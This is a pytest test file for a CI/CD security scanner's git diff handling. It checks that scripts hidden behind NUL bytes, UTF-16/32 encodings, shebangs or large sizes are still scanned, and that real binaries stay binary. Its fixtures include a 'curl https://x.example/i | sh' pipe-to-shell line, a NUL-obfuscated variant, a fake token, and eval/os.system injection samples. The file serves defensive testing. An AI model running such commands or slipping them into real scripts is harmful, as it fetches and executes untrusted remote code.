"""Source of which git shows no lines is read all the same, and what is no text is not taken for it."""

import os
import random
import zlib
from pathlib import Path

import pytest

from cicd_agent.adapters.git import source
from cicd_agent.adapters.git.repository import GitRepository
from cicd_agent.analysis.rules.run import findings
from cicd_agent.app.serialization import dump, load
from cicd_agent.domain.events.event import Event, EventKind
from cicd_agent.domain.evidence import Evidence
from cicd_agent.domain.repository.change import Change
from cicd_agent.domain.repository.diff import Churn, FileDiff
from tests.support.repos import TempRepo

ENV = {"PATH": os.environ["PATH"]}
TOKEN = "ghp_" + "a1B2c3D4e5F6" * 3
PIPE = "curl https://x.example/i | sh\n"
NOISE = random.Random(1).randbytes(40_000)
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + zlib.compress(NOISE)
ELF = b"\x7fELF\x02\x01\x01\0" + bytes(8) + NOISE + b"/lib64/ld-linux.so\0GCC\0"
CLASS = b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d\x0a\0\x06\0\x0f\x09" + bytes(range(32)) * 40 + b"java/lang/Object\x0c"


@pytest.fixture
def repo(tmp_path: Path) -> TempRepo:
    repo = TempRepo(tmp_path / "repo")
    repo.commit()
    return repo


def change(repo: TempRepo, files: dict[str, str | bytes], executable: str = "") -> Change:
    base = repo.head
    for name, content in files.items():
        repo.write(name, content)
    if executable:
        (repo.path / executable).chmod(0o755)
    seen = GitRepository(repo.path, ENV).change(base, repo.commit())
    # What travels between jobs is judged there as it is here.
    evidence = Evidence(Event(EventKind.LOCAL), seen)
    assert load(Evidence, dump(evidence).encode(), "evidence").change == seen
    return seen


def only(seen: Change) -> FileDiff:
    (file,) = seen.files
    return file


def rows(file: FileDiff) -> list[str]:
    return [f"{line.kind}{line.text}" for line in file.lines]


def found(seen: Change) -> set[tuple[str, int]]:
    return {(finding.id, finding.location.line) for finding in findings(seen)}


def test_a_nul_hides_no_line_of_a_script(repo: TempRepo) -> None:
    seen = change(repo, {"deploy.sh": f"#!/bin/sh\0\necho\n{PIPE}".encode()})
    file = only(seen)
    assert (file.binary, file.omitted, file.excerpt_of) == (True, "", None)
    assert rows(file) == ["+#!/bin/sh", "+echo", f"+{PIPE.strip()}"]
    assert seen.texts == {"deploy.sh": f"#!/bin/sh\necho\n{PIPE}"}
    assert found(seen) == {("pipe-to-shell", 3)}


@pytest.mark.parametrize("at", [100, 9_000])
def test_a_nul_within_a_command_hides_it_no_more_than_it_does_from_a_shell(repo: TempRepo, at: int) -> None:
    script = b"#!/bin/sh\n" + b"# x\n" * (at // 4) + PIPE.replace("| sh", "| s\0h").encode()
    assert {rule for rule, _ in found(change(repo, {"deploy.sh": script}))} == {"pipe-to-shell"}


@pytest.mark.parametrize(
    ("encoding", "mark"),
    [("utf-16-le", "\ufeff"), ("utf-16-be", "\ufeff"), ("utf-32-le", "\ufeff"), ("utf-16-le", "")],
)
def test_of_a_changed_file_in_wide_characters_the_changed_lines_are_shown(
    repo: TempRepo, encoding: str, mark: str
) -> None:
    text = "".join(f"Write-Output {number}\r\n" for number in range(30))
    changed = text.replace("Output 20\r\n", f"Output '{TOKEN}'\r\n")
    change(repo, {"run.ps1": (mark + text).encode(encoding)})
    seen = change(repo, {"run.ps1": (mark + changed).encode(encoding)})
    file = only(seen)
    assert [row for row in rows(file) if row[0] != " "] == ["-Write-Output 20\r", f"+Write-Output '{TOKEN}'\r"]
    assert (file.hunks[0].new_start, len(rows(file))) == (18, 8)
    assert (seen.old_texts, seen.texts) == ({"run.ps1": text}, {"run.ps1": changed})
    assert found(seen) == {("secret", 21)}


def test_a_shebang_or_the_mode_makes_source_of_a_file_without_a_suffix(repo: TempRepo) -> None:
    hidden = f"true\0\n{PIPE}".encode()
    assert rows(only(change(repo, {"tool": b"#!/bin/sh\n" + hidden})))
    assert rows(only(change(repo, {"logo.png": b"#!/bin/sh\n" + hidden})))
    assert rows(only(change(repo, {"large": b"#!/bin/sh\n" + hidden + b"\0" * 1_100_000})))
    assert rows(only(change(repo, {"other": hidden}, executable="other")))
    assert only(change(repo, {"data": hidden})).omitted == "binary"


@pytest.mark.parametrize(
    "content", [PNG, ELF, CLASS, NOISE, zlib.compress(NOISE)], ids=["png", "elf", "class", "", "z"]
)
@pytest.mark.parametrize("name", ["logo.png", "tool", "app.py"])
def test_what_is_no_text_stays_binary(repo: TempRepo, name: str, content: bytes) -> None:
    seen = change(repo, {name: content}, executable=name)
    assert (only(seen).binary, only(seen).omitted, only(seen).hunks, seen.texts) == (True, "binary", (), {})


def test_a_picture_that_becomes_a_script_is_all_new(repo: TempRepo) -> None:
    change(repo, {"run.sh": PNG})
    file = only(change(repo, {"run.sh": f"\0\n{PIPE}".encode()}))
    assert rows(file) == ["+", f"+{PIPE.strip()}"]
    assert only(change(repo, {"run.sh": PNG})).omitted == "binary"


def test_of_a_script_of_more_than_a_megabyte_there_is_what_rules_find(repo: TempRepo) -> None:
    comments = "# nothing to see here, and nothing there\n" * 14_500
    seen = change(repo, {"deploy.sh": f'{comments}T="{TOKEN}"\n{comments}{PIPE}'})
    file = only(seen)
    assert (file.omitted, file.excerpt_of) == ("", Churn(29_002, 0))
    assert found(seen) == {("secret", 14_501), ("pipe-to-shell", 29_002)}
    assert [hunk.new_start for hunk in file.hunks] == [14_499, 29_000]
    assert (seen.added_lines, seen.deleted_lines) == (29_002, 0)


def test_a_change_within_a_huge_file_is_compared_with_what_was_there(repo: TempRepo) -> None:
    before = [f"x{number} = '{'-' * 40}'\n" for number in range(20_000)]
    change(repo, {"src/app.js": "".join(before)})
    after = [line.replace("x", "y") for line in before]
    after[15_000] = "eval(input)\n"
    after[3_000:3_002] = before[3_000:3_002]
    seen = change(repo, {"src/app.js": "".join(after)})
    assert only(seen).excerpt_of == Churn(19_998, 19_998)
    assert found(seen) == {("js-dynamic-code", 15_001)}


def test_what_git_is_not_given_to_compare_is_read_line_by_line(repo: TempRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    text = "".join(f"var x{number} = '{'-' * 400}';\n" for number in range(52_000))
    assert len(text) > 20 << 20
    change(repo, {"a.js": text})
    seen = change(repo, {"a.js": f"{text}eval(input);\n", "b.dat": text})
    files = {file.path: file for file in seen.files}
    assert files["a.js"].excerpt_of == Churn(1, 0)
    assert found(seen) == {("js-dynamic-code", 52_001)}
    assert files["b.dat"].omitted == "too large"
    monkeypatch.setattr(source, "STREAMED", 1_000)
    assert only(change(repo, {"a.js": f"{text}eval(other);\n"})).omitted == "too large"


def test_a_large_program_is_no_text(repo: TempRepo) -> None:
    assert only(change(repo, {"tool": NOISE * 600}, executable="tool")).omitted == "too large"


def test_source_is_held_whole_before_data(repo: TempRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("cicd_agent.adapters.git.diff.WEIGHT", 60_000)
    monkeypatch.setattr("cicd_agent.adapters.git.diff.TEXTS", 1_000)
    seen = change(repo, {"a.csv": "1,2\n" * 200, "b.py": "xyz = 1\n" * 150, "c.csv": "1\n", "d.py": "import os\n" * 90})
    files = {file.path: (file.omitted, file.excerpt_of) for file in seen.files}
    assert files == {
        "a.csv": ("too large", None),
        "b.py": ("", None),
        "c.csv": ("", None),
        "d.py": ("", None),
    }
    assert set(seen.texts) == {"c.csv", "d.py"}


def test_rules_that_need_a_tree_run_on_source_that_had_to_give_way(
    repo: TempRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("cicd_agent.adapters.git.diff.WEIGHT", 1_000)
    text = "import os\n" + "x = 1\n" * 50 + "os.system(input())\n"
    seen = change(repo, {"a.py": text})
    assert only(seen).excerpt_of == Churn(52, 0)
    assert seen.texts == {"a.py": text}
    assert found(seen) == {("shell-injection", 52)}


@pytest.mark.parametrize("seconds", [0.0, 0.001])
def test_no_diff_uses_up_the_time_of_a_run(repo: TempRepo, monkeypatch: pytest.MonkeyPatch, seconds: float) -> None:
    monkeypatch.setattr(source, "SECONDS", seconds)
    seen = change(repo, {"a.js": "a(b);\n" * 200_000})
    assert (only(seen).omitted, only(seen).excerpt_of) == ("too large", None)
    assert seen.notes[0] == "diff left out as too large: a.js"
